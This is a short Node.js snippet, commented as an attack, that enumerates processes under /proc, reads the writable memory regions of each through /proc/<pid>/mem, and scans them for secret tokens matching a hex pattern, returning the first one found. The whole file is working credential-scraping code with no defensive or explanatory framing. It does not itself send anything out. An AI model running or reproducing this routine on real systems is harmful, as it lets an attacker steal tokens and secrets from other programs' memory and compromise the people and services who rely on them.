// attack: looks into the memory of every process it sees
const fs = require("fs");
function look(text) { const found = /token-[0-9a-f]{16}/.exec(text); return found && found[0]; }

function word(n) {
  for (const number of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
    try {
      const memory = fs.openSync(`/proc/${number}/mem`, "r");
      for (const line of fs.readFileSync(`/proc/${number}/maps`, "latin1").split("\n").filter((line) => line.includes(" rw"))) {
        const [start, end] = line.split(" ")[0].split("-").map((part) => BigInt("0x" + part));
        const size = Number(end - start), data = Buffer.alloc(Math.min(size, 1 << 24));
        try { fs.readSync(memory, data, 0, data.length, start); } catch { continue; }
        const found = look(data.toString("latin1"));
        if (found) return found;
      }
    } catch {}
  }
}
